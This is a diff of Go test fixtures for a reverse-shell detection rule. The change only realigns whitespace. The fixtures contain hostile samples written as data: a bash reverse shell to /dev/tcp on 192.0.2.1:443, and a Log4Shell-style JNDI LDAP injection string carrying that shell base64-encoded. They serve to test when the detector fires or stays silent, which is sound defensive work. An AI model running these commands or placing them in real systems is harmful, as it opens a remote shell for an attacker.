@@ -98,8 +98,8 @@ func reverseShellExamples() []example {
 			text("/src/notes.md", "ba·sh -i >& /dev/t·cp/192.0.2.1/443 0>&1"),
 		},
 	}, {
-		rule:   "Tyto_ReverseShell_Base64",
-		fires:  []object{text("/var/log/app.log", "user=${jn·di:ldap://x/Base64/"+b64("ba·sh -i >& /dev/t·cp/192.0.2.1/443 0>&1")+"}")},
+		rule:  "Tyto_ReverseShell_Base64",
+		fires: []object{text("/var/log/app.log", "user=${jn·di:ldap://x/Base64/"+b64("ba·sh -i >& /dev/t·cp/192.0.2.1/443 0>&1")+"}")},
 		silent: []object{
 			text("/var/log/app.log", b64("ba·sh -i is an interactive shell")),
 			text("/docs/log4j.md", b64("ba·sh -i >& /dev/t·cp/192.0.2.1/443 0>&1")),
